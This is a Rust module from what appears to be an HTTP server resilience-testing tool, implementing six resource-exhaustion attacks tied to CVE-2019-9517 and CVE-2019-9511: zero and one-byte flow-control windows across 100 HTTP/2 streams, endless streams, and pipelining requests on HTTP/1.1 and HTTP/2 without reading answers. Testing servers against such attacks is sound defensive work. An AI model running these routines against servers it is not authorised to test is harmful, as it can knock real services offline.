//! Clients that ask and do not read: what is held for them.

use super::{Attack, FOR_A_TIMEOUT, Outcome, Target};
use crate::frame::{flag, frame, kind, push, setting, window_update};
use crate::h1::H1;
use crate::h2::H2;
use crate::hpack;
use crate::wire::Sent;
use std::io;

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "window exhaustion: windows of zero", source: "CVE-2019-9517", run: zero_windows },
    Attack { name: "window exhaustion: one byte for each stream", source: "CVE-2019-9511", run: tiny_windows },
    Attack { name: "window exhaustion: streams without end", source: "CVE-2019-9517", run: endless },
    Attack { name: "window exhaustion: native streams without end", source: "CVE-2019-9517", run: native },
    Attack { name: "answers unread on h1", source: "CVE-2019-9517", run: unread_on_h1 },
    Attack { name: "answers unread on h2", source: "CVE-2019-9517", run: unread_on_h2 },
];

/// Streams of one connection.
const STREAMS: u32 = 100;
/// Requests whose answers fill every buffer between the two.
const REQUESTS: usize = 100_000;

fn zero_windows(target: &Target) -> io::Result<Outcome> {
    windows(target, 0)
}

fn tiny_windows(target: &Target) -> io::Result<Outcome> {
    windows(target, 1)
}

fn windows(target: &Target, size: u32) -> io::Result<Outcome> {
    all_streams(target, size, &hpack::request("GET", &target.large, &[]), b"")
}

fn endless(target: &Target) -> io::Result<Outcome> {
    all_streams(target, 0, &hpack::request("GET", &target.endless, &[("accept", "application/x-ndjson")]), b"")
}

fn native(target: &Target) -> io::Result<Outcome> {
    let headers = [("content-type", "application/grpc"), ("te", "trailers")];
    all_streams(target, 0, &hpack::request("POST", &target.native, &headers), &[0; 5])
}

/// All streams that there may be, each with an answer that has nowhere to go.
fn all_streams(target: &Target, window: u32, block: &[u8], body: &[u8]) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[(setting::INITIAL_WINDOW_SIZE, window)])?;
    for index in 0..STREAMS {
        let stream = 2 * index + 1;
        connection.request(stream, block, body.is_empty());
        if !body.is_empty() {
            connection.send(&frame(kind::DATA, flag::END_STREAM, stream, body));
        }
    }
    let all = STREAMS as usize;
    connection.wait(FOR_A_TIMEOUT, |seen| seen.goaway.is_some() || seen.resets.len() == all);
    Ok(Outcome::of_h2(connection, FOR_A_TIMEOUT))
}

/// Requests in a row, of which no answer is read.
fn unread_on_h1(target: &Target) -> io::Result<Outcome> {
    let request = format!("GET {} HTTP/1.1\r\nhost: siege.test\r\n\r\n", target.large);
    let mut connection = H1::open(target.address)?;
    let batch = request.repeat(100);
    for _ in 0..REQUESTS / 100 {
        if connection.send(batch.as_bytes()) != Sent::All {
            break;
        }
    }
    // It reads nothing, so it only learns of the end by writing.
    until_gone(|| connection.send(b"G"));
    Ok(Outcome::of_h1(connection, FOR_A_TIMEOUT))
}

/// As many streams as there may be, again and again, of which nothing is read: the windows are large,
/// the socket is full.
fn unread_on_h2(target: &Target) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[(setting::INITIAL_WINDOW_SIZE, 0x7fff_ffff)])?;
    connection.send(&window_update(0, 0x7fff_0000));
    let block = hpack::request("GET", &target.large, &[]);
    let mut stream = 1;
    for _ in 0..REQUESTS / 100 {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            push(&mut bytes, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block);
            stream += 2;
        }
        if connection.send(&bytes) != Sent::All {
            break;
        }
    }
    until_gone(|| connection.send(&window_update(0, 1)));
    Ok(Outcome::of_h2(connection, FOR_A_TIMEOUT))
}

/// Writes now and then until the connection is found gone, or it was given time enough.
fn until_gone(mut write: impl FnMut() -> Sent) {
    let end = std::time::Instant::now() + FOR_A_TIMEOUT;
    while std::time::Instant::now() < end {
        match write() {
            Sent::Gone => return,
            // Has taken its time already.
            Sent::Stalled => {}
            Sent::All => std::thread::park_timeout(std::time::Duration::from_millis(50)),
        }
    }
}
